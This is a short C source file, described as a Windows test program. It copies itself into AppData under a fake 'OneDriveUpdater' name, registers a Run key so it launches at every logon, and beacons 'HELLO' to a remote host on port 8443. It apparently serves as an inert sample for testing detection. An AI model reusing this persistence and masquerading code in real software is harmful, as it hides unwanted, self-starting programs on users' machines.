/* Windows test program: a Run key, a copy of itself into AppData, a connection. */
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>

int main(void) {
    char self[MAX_PATH], appdata[MAX_PATH], target[MAX_PATH];
    HKEY key;
    GetModuleFileNameA(NULL, self, sizeof self);
    GetEnvironmentVariableA("APPDATA", appdata, sizeof appdata);
    snprintf(target, sizeof target, "%s\\OneDriveUpdater", appdata);
    CreateDirectoryA(target, NULL);
    snprintf(target, sizeof target, "%s\\OneDriveUpdater\\updater.exe", appdata);
    CopyFileA(self, target, FALSE);
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                      0, KEY_SET_VALUE, &key) == ERROR_SUCCESS) {
        RegSetValueExA(key, "OneDriveUpdater", 0, REG_SZ, (const BYTE *)target,
                       (DWORD)strlen(target) + 1);
        RegCloseKey(key);
    }
    WSADATA wsa;
    WSAStartup(MAKEWORD(2, 2), &wsa);
    SOCKET s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    struct sockaddr_in addr = {0};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(8443);
    addr.sin_addr.s_addr = inet_addr("203.0.113.50");
    connect(s, (struct sockaddr *)&addr, sizeof addr);
    send(s, "HELLO", 5, 0);
    closesocket(s);
    printf("done %s\n", target);
    return 0;
}
